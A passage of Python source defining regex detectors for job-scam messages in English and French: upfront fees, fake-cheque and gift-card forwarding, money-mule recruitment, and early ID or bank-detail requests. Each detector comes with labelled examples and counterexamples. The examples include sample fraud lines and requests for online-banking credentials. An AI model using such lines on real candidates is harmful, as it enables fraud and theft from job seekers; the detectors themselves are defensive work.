                 r"\b(?:payer|regler|verser|debourser|virer|payez|reglez|versez|frais|acompte"
                 r"|caution)\b"),
            near(r"\b(?:payer|regler|verser|debourser|virer|payez|reglez|versez|frais|acompte"
                 r"|caution)\b",
                 r"\bpour (?:debloquer|valider|reserver|securiser|garantir|confirmer|activer)"
                 r" (?:votre|ton|ta) (?:poste|place|inscription|candidature|embauche|contrat"
                 r"|compte)\b"),
            r"\b(?:vous|tu) (?:devez|devrez|devriez|dois|devras|aurez a|auras a) (?:d'abord |au"
            r" prealable |prealablement |juste )?(?:payer|verser|regler|debourser|acheter|envoyer)"
            r" (?:un |une |des |les |le |la |vos |votre |tes |ton )?(?:[a-z]+ )?(?:frais|acompte"
            r"|caution|somme|montant|kit|materiel|participation|cotisation|" + _NUM + r")",
        )
    },
    examples=(
        E("We buy the equipment from our vendor, you just cover the $280 shipping deposit through "
          "Cash App.",
          spans=("shipping deposit",),
          note="the company buys, the candidate pays (review48 H3, R36-G)"),
        E("We'll order your laptop from our supplier once the $450 equipment fee is received via "
          "Zelle.",
          spans=("equipment fee",),
          note="(review48 H3, R36-G)"),
        E("Achetez l'ordinateur et les logiciels chez notre fournisseur agréé.",
          lang="fr",
          spans=("Achetez l'ordinateur et les logiciels chez notre fournisseur",),
          note="as 'buy ... from our approved vendor' (R21-H)"),
        E("Pay the $80 registration fee first, then we send the job materials.",
          spans=("registration fee",),
          note="sending the materials is not the company paying for anything"),
        E("Ksh 450 will be used to cater for training and uniform branding.",
          spans=("Ksh 450 will be used to cater for training",)),
        E("To start, a refundable training fee of $150 is required via Zelle.",
          spans=("training fee",)),
        E("You will need to purchase the software from our approved vendor, reimbursed with your "
          "first paycheck.", spans=("You will need to purchase the software",
                                     "reimbursed with your first paycheck")),
        E("Pay the uniform deposit to secure your position.", spans=("uniform deposit",)),
        E("Des frais de dossier de 50 € sont à régler avant la formation.", lang="fr",
          spans=("frais de dossier",)),
        E("Merci de verser un acompte pour le kit de démarrage.", lang="fr",
          spans=("verser un acompte", "kit de démarrage")),
        E("A deposit of $150 is required before you can start training.",
          spans=("deposit of $150 is required",)),
        E("Un acompte de 150 € est demandé pour le matériel.", lang="fr",
          spans=("acompte de 150 € est demandé",)),
        E("Il faudra payer 50 euros pour la formation.", lang="fr",
          spans=("Il faudra payer 50",)),
        E("Vous devez d'abord acheter le kit à 89 € sur notre boutique.", lang="fr",
          spans=("Vous devez d'abord acheter le kit",)),
        E("To reserve your seat in the training, pls transfer 60 USD today.",
          spans=("To reserve your seat in the training, pls transfer 60 USD",)),
        E("Kindly wire $75 to cover the DBS check.", spans=("Kindly wire $75 to cover the DBS "
                                                            "check",)),
        E("The licence costs $300, which has to be paid upfront.",
          spans=("$300, which has to be paid upfront",)),
        E("Il faut juste régler 40 € pour commencer : 40 € de certification.", lang="fr",
          spans=("faut juste régler 40", "40 € de certification")),
        E("Pour confirmer ton inscription, merci de verser la caution.", lang="fr",
          spans=("Pour confirmer ton inscription, merci de verser",)),
        E("The training kit costs $150, pay it via Zelle before you start.",
          spans=("kit costs $150, pay",)),
        E("Then pay the fee via Cash App.", spans=("Then pay the fee via Cash App",)),
        E("Pay the $90 deposit via Zelle today.", spans=("Pay the $90 deposit via Zelle",)),
        E("Le kit de formation coûte 150 €, à régler par PayPal.", lang="fr",
          spans=("formation coûte 150 €, à régler",)),
        E("Payez les frais via Western Union avant lundi.", lang="fr",
          spans=("Payez les frais via Western Union",)),
        E("The training fee is $150, pay it via Zelle, we never charge candidates for "
          "interviews.", spans=("training fee",),
          note="the disclaimer is about the interview, not the fee"),
        E("Le kit de démarrage coûte 150 €, aucun frais pour les entretiens, payez par PayPal.",
          lang="fr", spans=("kit de démarrage",)),
        E("Le matériel est commandé chez notre fournisseur, réglez 300 € de frais de dossier "
          "avant lundi.", lang="fr", spans=("300 € de frais",),
          note="the company's order beside the candidate's fee (R36-C)"),
        E("Commande ton matériel chez notre fournisseur, tu seras remboursé sur ton premier "
          "salaire.", lang="fr", spans=("Commande ton matériel chez notre fournisseur",
                                        "remboursé sur ton premier salaire")),
    ),
    counterexamples=(
        E("Vous pouvez acheter vos fournitures chez le fournisseur de votre choix.",
          lang="fr", note="the candidate's choice (R21-H)"),
        # the company orders the equipment (rule R36-C)
        E("Votre ordinateur est commandé chez notre fournisseur ; les frais de livraison sont à "
          "notre charge.", lang="fr", note="« commandé » is the company's order"),
        E("Nous commandons votre matériel chez notre fournisseur habituel, vous le recevrez "
          "lundi.", lang="fr"),
        E("We'll order your laptop from our supplier and it will arrive before your start date."),
        E("IT will order your equipment from our approved vendor once the contract is signed."),
        E("Il n'y a pas de frais d'inscription et le programme complet est en ligne.",
          lang="fr", note="as 'there is no registration fee' (R20-K)"),
        E("You will need to send 2 references and a cover letter.",
          note="references, not money (R18-N)"),
        E("You'll need to send 3 writing samples by Friday."),
        E("We'll ship you a company laptop before your first day; there is no fee."),
        E("We pay contractors via PayPal every Friday; the laptop costs $1,200 and we pay for it.",
          note="the employer pays, through an app, and buys the equipment"),
        E("Nous vous payons par virement, jamais par PayPal.", lang="fr"),
        E("We pay freelancers via PayPal at the end of each month."),
        E("You don't pay anything upfront."),
        E("We'll courier you a company laptop before day one."),
        E("We sponsor visas for this role."),
        E("Visa processing fees are covered by the company."),
        E("We never charge candidates any fee."),
        E("Les frais de visa sont pris en charge par l'entreprise.", lang="fr"),
        E("Nous ne demandons jamais de frais aux candidats.", lang="fr"),
        E("The visa fee is covered by us; we never charge for interviews either."),
        E("Les frais de visa sont pris en charge par l'entreprise, aucun frais pour les "
          "entretiens.", lang="fr"),
        E("A signing bonus of $5,000 will be paid to you after 90 days."),
        E("Vos frais de déplacement sont remboursés par l'entreprise.", lang="fr"),
        E("As a speaker, you pay upfront for your flight and we reimburse you after the event.",
          note="a speaker's travel, refunded (review of R19-C)"),
        E("Le déjeuner du colloque est à régler d'avance auprès de l'organisation.", lang="fr"),
        E("Vous devrez envoyer votre candidature avant le 15 mars.", lang="fr"),
        E("To confirm your start date, please send us the signed contract."),
        E("Pour valider votre candidature, envoyez votre CV avant vendredi.", lang="fr"),
        E("L'entreprise prendra en charge vos frais de formation ; vous n'aurez rien à payer.",
          lang="fr", note="the company pays"),
        E("The certification costs $300, which is reimbursed by the company.",
          note="a cost the company bears"),
    ),
)

_CHEQUE_SENT = (r"\b(?:we(?:'ll| will)?|i(?:'ll| will)?|will|to) (?:send|mail|post|courier"
                r"|issue|give) (?:you |u )?(?:a |the |your |ur )?(?:check|cheque|money order"
                r"|certified check|cashier'?s check)s?\b")
_TO_BUY = (r"\b(?:equipment|supplies|software|laptop|computer|workstation|home office"
           r"|office (?:equipment|supplies|furniture)|set ?up your (?:home )?(?:office"
           r"|workstation|equipment)|vendor|supplier|purchase|buy|gift[- ]?cards?|materials?"
           r"|devices?|tools)\b")
_CHEQUE_SENT_FR = (r"\b(?:envoy|expedi|post|remett|adress)\w{0,6}(?:[- ](?:vous|te|t'))?"
                   r" (?:un |le |votre |ton )?cheques?\b")
_TO_BUY_FR = (r"\b(?:materiel|equipement|equiper|fournitures|logiciels?|ordinateur|bureau"
              r"|poste de travail|achat|acheter|achetez|fournisseur|prestataire|cartes? cadeaux?"
              r"|outils)\b")
CHEQUE_FORWARDING = PatternSignal(
    name="cheque_forwarding",
    description="Sends the candidate a cheque or funds to deposit and pass on: 'deposit the "
    "check and send the balance to our vendor', 'buy gift cards and send the codes'.",
    category="fraud",
    polarity="risk",
    source="F5: FTC alert 2021; BBB 2021 study (36%); BBB tips; FBI 2017; IC3 2012 wire-back "
    "alert; UMD; U-M HITS; UCR; Wichita State; SMU; Léo Lagrange; Banque de Savoie",
    patterns={
        "message": (
            # a cheque sent for what the candidate must buy (the fake-cheque opening), in the
            # same clause or with what to buy in the next sentence ("We will send you a check.
            # Use it to buy your equipment from our vendor."); a cheque that pays a grant, a
            # fee or expenses is money flowing to the candidate
            near(_CHEQUE_SENT, _TO_BUY, r"(?:[^.!?;]{0,40}|[^.!?;]{0,20}[.!?;] [^.!?;]{0,40})"),
            near(_TO_BUY, _CHEQUE_SENT, r"[^.!?;]{0,40}"),
            # French, as "we will mail you a check for your home office" (probe12, R21-H)
            near(_CHEQUE_SENT_FR, _TO_BUY_FR,
                 r"(?:[^.!?;]{0,40}|[^.!?;]{0,20}[.!?;] [^.!?;]{0,40})"),
            near(r"\b(?:deposit|cash|mobile deposit|encash)\b",
                 r"\b(?:checks?|cheques?|money orders?)\b", r"[^.!?]{0,20}"),
            r"\b(?:send|wire|transfer|forward|remit|return|zelle|pay) (?:back )?(?:the )?(?:balance"
            r"|remainder|rest|remaining (?:amount|funds|money)|excess|difference|overpayment"
            r"|surplus)\b",
            r"\b(?:pay|send|transfer|wire|remit) (?:it |the (?:funds|money|rest|remainder) |(?:"
            + _CUR + r" ?" + _NUM + r"|" + _NUM + r" ?" + _CUR_AFTER + r") )?(?:on )?(?:to )?"
            r"(?:our|the|a) (?:[a-z\-]+ )?(?:vendor|supplier|preferred agent|designated vendor"
            r"|approved vendor)\b",
            # the fake cheque "clearing", then cashed and passed on
            r"\b(?:once|when|after|as soon as) (?:it|the (?:check|cheque|funds?|payment|deposit))"
            r" (?:clears?|ha(?:s|ve) cleared|is cleared|are cleared|reflects|hits? your account),?"
            r" (?:please |then |just )?"
            r"(?:transfer|send|wire|forward|pay|buy|purchase|withdraw|remit)\b",
            near(r"\b(?:checks?|cheques?|money orders?)\b",
                 r"\b(?:cash|deposit|encash) (?:it|them)\b", r"[^.!?;]{0,40}"),
            r"\b(?:buy|purchase|get) (?:some |the |a few |[0-9]{1,2} )?(?:gift[- ]?cards?|vouchers?"
            r"|steam cards?"
            r"|itunes cards?|apple cards?|google play cards?)\b",
            r"\b(?:buy|purchase) (?:some |a few |[0-9]{1,2} |a couple of )?(?:[a-z]+ ){0,2}gift"
            r" ?cards?\b|\b(?:paysafecard|neosurf|transcash)\b",
            r"\b(?:send|text|email|share)(?: me| us)? (?:a |the )?(?:pics?|photos?|pictures?|images"
            r"?"
            r"|scans?) of (?:the )?(?:back of (?:the |each )?(?:gift )?cards?|back|codes?|gift card"
            r"s?)"
            r"\b",
            # the codes of a card or a voucher, not "share code" or "send us the code" of a
            # take-home (rule R18-J)
            r"\b(?:send|text|email|share|scratch)(?: me| us)? (?:the |all (?:the )?)?(?:gift card"
            r"|card|voucher|coupon|steam|itunes|google play)s? (?:codes?|pins?|numbers?)\b"
            r"|\b(?:send|text|email|scratch)(?: me| us)? (?:the |all (?:the )?)?(?:card numbers?"
            r"|pins)\b",
            near(r"\b(?:gift[- ]?cards?|cards?|vouchers?|steam|itunes|google play)\b",
                 r"\b(?:send|text|email|share|scratch)(?: me| us)? (?:the |all (?:the )?)?"
                 r"(?:codes?|pins?)\b"),
            # French
            r"\bencaiss\w{0,6} (?:un |le |ce |les |des )?cheques?\b",
            # an amount and one sentence end may come between (« un chèque de 2 800 €. Merci de
            # l'encaisser »; probe9, R19-G), as in English
            near(r"\b(?:cheques?)\b", r"\b(?:encaiss|depos)\w{0,6}",
                 r"(?:[^.!?]{0,30}|[^.!?]{0,30}[.!?] [^.!?]{0,30})"),
            # the money passed on to "our supplier", as "wire $2,300 to our approved vendor"
            r"\b(?:virer|virez|reverser|reversez|transferer|transferez|verser|versez)(?: le reste"
            r"| le solde| la somme| les fonds| [0-9][0-9 .,]{0,9}(?:€|eur|euros?))"
            r" (?:a|au|vers) (?:notre|le|un|votre) (?:[a-z\-]+ )?(?:fournisseur|prestataire"
            r"|vendeur|revendeur)\b",
            r"\b(?:encaiss|depos|remett)\w{0,6} (?:les |des |un |le |ce |vos |nos )?cheques?\b"
            r"|\bremett\w{0,5}(?:-le|-les| le| les)? (?:a|dans|sur) (?:votre|ta) (?:banque|compte)"
            r"\b",
            r"\b(?:reverser|reversez|renvoyer|renvoyez|transferer|transferez|virer|virez|envoyer"
            r"|envoyez|rendre|rendez|restituer|restituez)(?:-nous|-moi| nous| moi| nous en)?"
            r" (?:une partie|le reste|le solde|la difference|l'excedent|le surplus|le trop-percu"
            r"|les fonds|l'argent|la somme)\b",
            r"\b(?:coupons?|recharges?|tickets?) (?:pcs|transcash|neosurf|paysafecard|toneo)\b",
            r"\bmandat cash\b",
            r"\b(?:moneygram|money gram|western union|ria money transfer)\b",
            # recharge cards named; a gift or prepaid card bought or its codes sent, as "buy
            # gift cards" (not a panel's thank-you gift card: probe12, R21-F)
            r"\bcartes? (?:pcs|transcash|neosurf|google play|itunes)\b",
            near(r"\b(?:achet|achat|acquer|acquier)\w{0,6}",
                 r"\bcartes?[- ](?:cadeaux?|prepayees?)\b", r"[^.!?]{0,30}"),
            near(r"\bcartes?[- ](?:cadeaux?|prepayees?)\b", r"\bcodes?\b"),
        )
    },
    examples=(
        E("Nous allons vous envoyer un chèque de 3 450 € pour équiper votre bureau. Une fois "
          "encaissé, déposez-le.",
          lang="fr",
          spans=("envoyer un chèque de 3 450 € pour équiper votre bureau",),
          note="as 'mail you a check for your home office' (R21-H)"),
        E("Achetez trois cartes cadeaux et envoyez-moi les codes.",
          lang="fr", spans=("Achetez trois cartes cadeaux",), note="as 'buy gift cards' (R21-F)"),
        E("Nous allons vous envoyer un chèque de 2 800 €. Merci de l'encaisser puis de "
          "virer 2 300 € à notre fournisseur.",
          lang="fr",
          spans=("chèque de 2 800 €. Merci de l'encaisser", "virer 2 300 € à notre fournisseur")),
        E("We'll send you a check for your equipment; deposit it and send the balance to our "
          "vendor.", spans=("send you a check", "send the balance")),
        E("pls buy 3 gift cards and send me the codes", spans=("buy 3 gift cards",)),
        E("To set up your home office, we will mail you a cheque.",
          spans=("set up your home office, we will mail you a cheque",)),
        E("We will send you a check. Use it to buy your equipment from our vendor.",
          spans=("We will send you a check. Use it to buy",)),
        E("Vous allez encaisser un chèque puis reverser une partie par mandat cash.", lang="fr",
          spans=("encaisser un chèque", "reverser une partie", "mandat cash")),
        E("A money order is on its way; when the funds clear, buy the laptop. Then remit $900 "
          "to the logistics vendor.", spans=("when the funds clear, buy",
                                             "remit $900 to the logistics vendor")),
        E("Please purchase two Razer gift cards and email us photos of the back of the cards.",
          spans=("purchase two Razer gift cards", "photos of the back of the cards")),
        E("Remettez le chèque à votre banque, puis restituez-nous les fonds en tickets Neosurf.",
          lang="fr", spans=("Remettez le chèque", "restituez-nous les fonds", "tickets Neosurf")),
    ),
    counterexamples=(
        E("Nous vous envoyons un chèque pour vos frais de mission.",
          lang="fr", note="expenses paid to the candidate (R21-H)"),
        E("En remerciement, vous recevrez une carte cadeau Amazon de 60 € par email après la "
          "session.",
          lang="fr", note="a panel's thank-you, as in English (R21-F)"),
        E("Merci d'envoyer le colis à notre prestataire logistique.",
          lang="fr",
          note="a parcel, not money (R19-I)"),
        E("We'd of course share code openly on GitHub.", note="not a gift card's code (R18-J)"),
        E("Send us the code when you're done with the exercise."),
        E("Salary is paid monthly by bank transfer through payroll."),
        E("Le salaire est versé par virement chaque mois.", lang="fr"),
        E("Your travel grant is approved: if you have a US bank account, we'll issue you a check.",
          note="a grant paid to the recipient, nothing to buy or pass on"),
        E("We'll send you a check at the office address."),
        E("We will send you a check for your first week; please set up direct deposit later."),
        E("Once you set up your account, we will send you a check for your travel expenses."),
        E("The background check takes a week; once it clears, we'll send your contract.",
          note="a background check clearing, nothing to pass on"),
        E("Remettez le dossier signé à votre manager ; la prime est versée sur votre compte.",
          lang="fr", note="a document handed in, no cheque"),
    ),
)

MONEY_MULE = PatternSignal(
    name="money_mule",
    description="Wants to use the candidate's bank account: receive payments and transfer them "
    "on, keep a commission, open a new account, hand over online-banking access.",
    category="fraud",
    polarity="risk",
    source="F6: Action Fraud money-mule alert; Cifas 2024; FFA UK via YourMoney; "
    "Nottinghamshire Police; Univ. of Wolverhampton; Herts Constabulary; Febelfin; Beobank",
    patterns={
        "message": (
            r"\b(?:receive|receiving|accept|accepting|process|processing|handle|handling|collect"
            r"|collecting) (?:customer |client |incoming |our )?(?:payments?|funds|money|transfers?"
            r"|deposits?|wires?|donations) (?:into|on|to|through|via|in|using) (?:your|a"
            r" personal|your personal|your own|a new) (?:bank )?(?:account|bank)\b",
            r"\b(?:use|using|lend|rent|borrow) (?:of )?(?:your|ur) (?:bank |personal |own |checking"
            r" |savings )?(?:bank account|account details|accounts|card|bank acc(?:t|ount)?|acct)\b"
            r"",
            # a cut of the money that passes through ("u keep 10 percent", "5% of each transfer")
            r"\bkeep (?:a |your )?[0-9]{1,2} ?(?:%|percent|per ?cent)(?: ?[.,!;]|$| for yourself"
            r"| of (?:it|each|every|the (?:money|amount|funds|transfers?|payments?))| as (?:your )?"
            r"(?:commission|fee|pay|cut))"
            r"|\b[0-9]{1,2} ?(?:%|percent|per ?cent) (?:of|on|from) (?:each|every|the) (?:transfer"
            r"|transaction|payment|deposit|amount (?:received|transferred))s?\b",
            r"\b(?:client|customer|third[- ]party|our clients'?|our customers'?) (?:payments|funds"
            r"|money|transfers|deposits)(?: [a-z']+){0,3} (?:will|would|are going to|can)"
            r" (?:arrive|land|come|be (?:sent|paid|deposited|wired|transferred)) (?:in|into|on|to)"
            r" (?:your|ur) (?:personal |own |private )?(?:bank )?account\b",
            r"\b(?:transfer|send|wire|forward|move|pass) (?:them|it|the (?:funds|money|payments))"
            r" (?:on|onward|onwards|to our|to the (?:company|client|supplier))\b",
            r"\bprocess (?:customer|client|company) payments\b",
            # "you forward them the same day to the accounts we specify" (money paid in to the
            # candidate is not enough: reimbursements and salaries are paid in too)
            r"\b(?:forward|transfer|wire|send|move) (?:them|it|the (?:funds|money|payments))"
            r"(?: [a-z]+){0,3} to (?:the )?accounts? (?:we|i) (?:specify|give|provide|indicate"
            r"|send|name)\b",
            r"\bkeep (?:a |an |your )?(?:[0-9]{1,2} ?% )?(?:commission|percentage|cut)\b",
            r"\b(?:open|set up|create) (?:a |an )?(?:new |second |additional |fresh |separate )?"
            r"(?:bank |online |business )?account (?:in your name|for (?:us|the company|this job"
            r"|(?:the |our )?(?:company'?s? )?(?:incoming |client |customer )?(?:payments|funds"
            r"|transfers|deposits))|to (?:receive|collect|process|handle) (?:the |our )?"
            r"(?:client |customer |company )?(?:payments?|funds|money|transfers?|deposits?))\b",
            r"\b(?:online[- ]banking|bank|banking) (?:login|log-in|credentials|password|access"
            r"|username)\b",
            # "give us access to your online banking" (set M, rules R35-A, R35-F; not a
            # consent to read account data, "you grant us access to your bank account data")
            r"\b(?:give|send) (?:us|me) (?:access to|the login (?:for|to)|your login (?:details )?"
            r"(?:for|to)) (?:your|ur) (?:online |internet |mobile )?(?:banking|bank login"
            r"|banking app|bank app)\b",
            # French
            r"\b(?:faire|faisons|ferons|faites|ferez) (?:transiter|passer|circuler) (?:de l'argent"
            r"|des fonds|des virements|des paiements|des sommes)\b",
            # « tu fais suivre l'argent », « vous les reversez aux comptes indiqués »
            r"\b(?:fais|faites|faire|ferez|feras) suivre (?:l'argent|les fonds|les virements"
            r"|les sommes|les paiements)\b",
            r"\b(?:vous|tu) (?:les |leur )?(?:reversez|reverses|transferez|transferes|virez"
            r"|vires) (?:ensuite |immediatement |aussitot |le jour meme )?(?:a|vers|sur|aux)\b",
            r"\b(?:recevoir|recevez|recevrez|recevriez|recois|recevras|receptionner"
            r"|receptionnerez) (?:des |les )?(?:virements|fonds|paiements|sommes|transferts)"
            r"(?: \w+){0,3} (?:sur|dans) (?:votre|ton) (?:propre |nouveau )?compte\b",
            r"\b(?:garder|gardez|conservez|conserver|garde|gardes|conserves|gardant|conservant)"
            r" (?:une |votre |un |ta )?(?:commission|pourcentage|[0-9]{1,2} ?(?:%|pour ?cent)"
            r"(?: ?[.,!;]|$| (?:de|sur) (?:chaque|chacun|la somme|les sommes|l'argent|les fonds"
            r"|tous les)| au passage| pour (?:vous|toi)| (?:de|en) commission))",
            r"\b[0-9]{1,2} ?(?:%|pour ?cent) (?:sur|de) (?:chaque|chacun des|tous les) (?:transfert"
            r"s?"
            r"|virements?|transactions?|operations?|paiements?|versements?)\b|\b(?:remuneree?s?"
            r"|payee?s?) au pourcentage\b",
            r"\b(?:paiements|virements|fonds|sommes|transferts|versements) (?:de nos|des|de mes)"
            r" (?:clients|partenaires|tiers)(?: [\w']+){0,2} (?:arriveront|arrivent|arriveraient"
            r"|seront (?:verses|vires|deposes|envoyes|credites)|transiteront|transitent) (?:sur"
            r"|dans) (?:votre|ton) (?:propre |nouveau )?compte\b",
            r"\b(?:vous|tu) (?:les |leur )?(?:transfererez|transfereras|reverserez|reverseras"
            r"|virerez|vireras) (?:ensuite |immediatement |aussitot )?(?:a|vers|sur|aux)\b",
            r"\b(?:transmettre|transmettez|communiquer|communiquez|donner|donnez|envoyer|envoyez"
            r"|envoie|envoies|transmets)(?:[- ](?:aussi|egalement|nous|moi)){0,2} (?:vos |tes )?"
            r"(?:codes? d'acces(?: bancaires)?|identifiants (?:bancaires|de banque)"
            r"|codes bancaires)\b",
            # the credentials named, as "online banking username / password" (probe12, R21-F)
            r"\b(?:identifiants?|logins?|codes? de connexion) (?:de (?:la |votre |ta )?banque en"
            r" ligne|bancaires?)\b|\b(?:mots? de passe|codes? d'acces) (?:bancaires?|de (?:la"
            r" |votre |ta )?banque(?: en ligne)?)\b",
            r"\b(?:preter|louer|utiliser) (?:votre|ton|leur|leurs|vos|tes|son) comptes? bancaires?"
            r"\b",
            r"\bouvr\w{0,4} un (?:nouveau |second |deuxieme )?compte (?:(?:bancaire|en ligne"
            r"|courant) ){0,2}(?:a (?:votre|ton) nom|pour (?:nous|la societe|l'entreprise|la boite"
            r"|encaisser|recevoir))",
            # the job needs an account at a given bank: a mule recruiter picks the banks whose
            # transfers it can use (F6: Febelfin, Beobank, ABE Infoservice)
            r"\bif (?:you|u) (?:have|hold|own|bank with|are (?:a )?(?:customer|client) (?:of|at"
            r"|with)) (?:an? (?:bank )?account (?:with|at|in) )?(?:one of )?(?:the following|these"
            r"|those|this list of|any of these|the listed) banks\b",
            r"\b(?:do|does) (?:you|u) (?:have|hold|own) (?:an? |any )?(?:bank )?accounts? (?:with"
            r"|at|in) (?:one of |any of )?(?:the following|these|those|our partner|the listed)"
            r" banks?\b|\bwhich banks? (?:do|are) (?:you|u) (?:bank with|use|with|banking with)\b",
            r"\bsi (?:vous|tu) (?:etes|es|avez|as) (?:(?:un )?compte |client(?:e)? )?(?:chez|dans"
            r"|a|aupres de) (?:l'une de |une de |l'un de |un de )?(?:ces|ses|les|nos)"
            r" (?:banques|etablissements bancaires|etablissements)\b",
            r"\b(?:avez-vous|as-tu|avez vous|as tu) un compte (?:bancaire )?(?:chez|dans|a|aupres"
            r" de) (?:l'une de |une de )?(?:ces|les|nos) banques\b|\b(?:dans )?quelle banque"
            r" (?:etes-vous|es-tu|avez-vous votre compte|etes vous)\b",
        )
    },
    examples=(
        E("Merci d'indiquer votre login de banque en ligne.",
          lang="fr", spans=("login de banque en ligne",), note="(R21-J)"),
        E("Remplissez le formulaire : identifiant de banque en ligne, mot de passe bancaire.",
          lang="fr",
          spans=("identifiant de banque en ligne", "mot de passe bancaire",),
          note="as 'online banking username' (R21-F)"),
        E("You will receive customer payments into your bank account, transfer them on and keep "
          "a 10% commission.", spans=("receive customer payments into your bank account",
                                      "transfer them on", "keep a 10% commission")),
        E("just need your online banking login to set up payroll",
          spans=("online banking login",)),
        E("Payments land with you and you forward them within a day to the accounts we specify.",
          spans=("forward them within a day to the accounts we specify",)),
        E("Nous faisons transiter des fonds par votre compte : vous les reversez ensuite aux "
          "fournisseurs.", lang="fr",
          spans=("faisons transiter des fonds", "vous les reversez ensuite aux")),
        E("Tu fais suivre l'argent et envoie-nous aussi tes codes d'accès bancaires.", lang="fr",
          spans=("fais suivre l'argent", "envoie-nous aussi tes codes d'accès bancaires")),
        E("Il s'agit de recevoir des virements sur votre compte et de garder une commission.",
          lang="fr", spans=("recevoir des virements sur votre compte", "garder une commission")),
        E("You will open a new bank account to receive the client payments.",
          spans=("open a new bank account to receive the client payments",)),
        E("Vous recevrez des virements de nos clients sur votre compte.", lang="fr",
          spans=("recevrez des virements de nos clients sur votre compte",)),
        E("Customer payments will land in your personal account; keep 8% as your commission.",
          spans=("Customer payments will land in your personal account",
                 "keep 8% as your commission")),
        E("Can you create a separate bank account for our incoming transfers?",
          spans=("create a separate bank account for our incoming transfers",)),
        E("Les fonds de nos partenaires transiteront sur votre compte, vous les reverserez "
          "ensuite à notre fournisseur en gardant 7 %.", lang="fr",
          spans=("fonds de nos partenaires transiteront sur votre compte",
                 "vous les reverserez ensuite à", "gardant 7 %")),
        E("Tu peux ouvrir un compte en ligne à ton nom ? 3 % sur chaque virement.", lang="fr",
          spans=("ouvrir un compte en ligne à ton nom", "3 % sur chaque virement")),
        E("Just give us access to your online banking and we'll handle the transfers.",
          spans=('give us access to your online banking',), note="(R35-A, R35-F)"),
    ),
    counterexamples=(
        E('We will never ask for access to your online banking.',
          note="review46 (R35-F)"),
        E('By connecting, you grant us access to your bank account data to verify your income.',
          note="review46 (R35-F)"),
        E("Les paiements de vos clients arrivent sur votre compte Malt, vous pouvez ensuite "
          "les transférer vers votre banque.", lang="fr",
          note="review46 (R35-F)"),
        E("Ne communiquez jamais vos codes à un tiers.",
          lang="fr", note="no credentials named (R21-F)"),
        E("Your salary will be paid into your bank account at the end of each month."),
        E("We will transfer the money to your account once your travel receipts are in.",
          note="a reimbursement is paid in, nothing is passed on"),
        E("Faites suivre le contrat signé au service RH.", lang="fr"),
        E("Votre salaire sera versé sur votre compte à la fin du mois.", lang="fr"),
        E("Vous recevrez votre salaire sur votre compte chaque mois.", lang="fr"),
        E("We will open an account for you on our HR portal to receive your documents."),
        E("As customer success lead you'll keep 95% of accounts renewing each year."),
        E("Your salary payments will be paid into your own bank account monthly."),
        E("Vous gardez 80 % de votre salaire pendant le congé parental.", lang="fr"),
        E("Créez votre compte candidat pour suivre votre dossier.", lang="fr"),
    ),
)

_AFTER_OFFER = (
    r"\b(?:after|once|following|upon) (?:(?:you|an?|the|our|your|signing|accepting|receive"
    r"|accept|have|sign|written)\s){0,3}(?:offer|contract|hire|hiring|onboarding|start date"
    r"|first day)\b|\b(?:during|at|through|via) (?:(?:the|our|your|formal)\s){0,2}(?:onboarding"
    r"|payroll|hr system|hr portal|right-to-work check)\b"
    r"|\b(?:apres|lors de|a) (?:l'|la |le |votre )?(?:offre|signature|embauche|integration"
    r"|contrat|premier jour)\b"
)
EARLY_IDENTITY_REQUEST = PatternSignal(
    name="early_identity_request",
    description="Asks in the first messages for identity or bank documents: a copy of an ID or "
    "passport, social-security number, date of birth, bank details 'for direct deposit'.",
    category="elicitation",
    polarity="risk",
    source="F7: FTC alert 2020; FBI 2017/2020; BBB 2021 (34%/25%); LinkedIn VP post; Pôle "
    "emploi; Léo Lagrange; cybermalveillance; Get Safe Online; Action Fraud; vsafe.gov",
    unless=_AFTER_OFFER + r"|\b(?:never|not|don't|do not|won't"
    r"|will not) (?:(?:ask|asking|you|for|request|requesting|need)\s){0,3}(?:your|any|a|for)\b"
    r"|\b(?:jamais|ne (?:vous )?demand\w{0,6} (?:jamais|pas))\b"
    # "email ID" is an e-mail address in Indian English, not "e-mail (us your) ID"
    r"|\be-?mail ids?\b",
    unless_scope="sentence",
    patterns={
        "message": (
            # the document may come after other items of a list ("send your full name,
            # birthdate and ..."), or as a scan of both sides
            r"\b(?:send|provide|upload|share|forward|email|submit|attach|scan|need|require|text"
            r"|give|reply with|respond with)(?: me| us)? (?:(?:your |ur )?[a-z'\-]+(?: [a-z'\-]+)"
            r"{0,2}, ){0,4}(?:a |an |the |your |ur )?(?:(?:(?:very |clear |scanned |front and back "
            r"|colou?r |high[- ]resolution |good |quick |legible ){0,3})"
            r"(?:copy|scan|photo|picture|image|pic) of (?:both sides of |the front and back of )?)?"
            r"(?:your |ur )?(?:id|id card|identity card|national (?:identity|id) card|identity"
            r" document|photo id"
            r"|passport|driver'?s? licen[cs]e|driving licen[cs]e|driving permit|driver'?s permit"
            r"|ssn|social security (?:number|card)|national insurance number|national id(?:entity)?"
            r" number|bank (?:details|account|statement|card)|(?:bank )?routing"
            r"(?: and account)? number|account number|date (?:and place )?of birth|birth ?date"
            r"|sin number|tax id(?:entification)?(?: number)?|iban|selfie)\b",
            r"\b(?:bank|account) (?:details|information|info|number) (?:for|to set up) (?:the )?"
            r"(?:direct deposit|payroll|payment|salary)\b",
            r"\bfill (?:in|out) (?:the |this |our )?(?:attached )?(?:employment|onboarding|hiring"
            r"|new hire|i-9|w-4|personal information) (?:form|application|documents?)\b",
            # French
            r"\b(?:envoyez|envoyer|envoie|envoyes|fournir|fournissez|transmettre|transmettez"
            r"|joindre|joignez|communiquer|communiquez|scanner|scannez|adresser|adressez"
            r"|(?:faire|faites|fais)(?:-moi|-nous| moi| nous)? parvenir|(?:avons|aurions|aurons|ai"
            r"|aurais) besoin|il (?:me|nous) (?:faut|faudra|faudrait)(?: (?:aussi|egalement|juste"
            r"|simplement|encore|d'abord))?)(?:-moi|-nous| moi| nous| de| d')?"
            r" (?:(?:une|la|votre|ta|ton|un|le|les|vos|tes|copie|copies|photo|photos|scan|scans"
            r"|recto|verso|recto-verso|recto/verso|et|de|d'|lisible|lisibles|nette|nettes|claire"
            r"|claires|couleur|numerique|numeriques|petit|petite|bien|tres|rapide|haute|resolution"
            r"|hd|juste|simplement|aussi|egalement|d'abord|vite|rapidement|directement) ?){0,6}"
            r"(?:pieces? d'identite|cartes? d'identite|piece d'identite|carte"
            r" d'identite|carte nationale d'identite|cni|passeport|rib|iban|releve d'identite"
            r" bancaire|numero de securite sociale|numero (?:avs|de registre national|national"
            r"|fiscal|d'identification fiscale|nir)"
            r"|carte vitale|permis de conduire|photo d'identite|coordonnees bancaires|date (?:et"
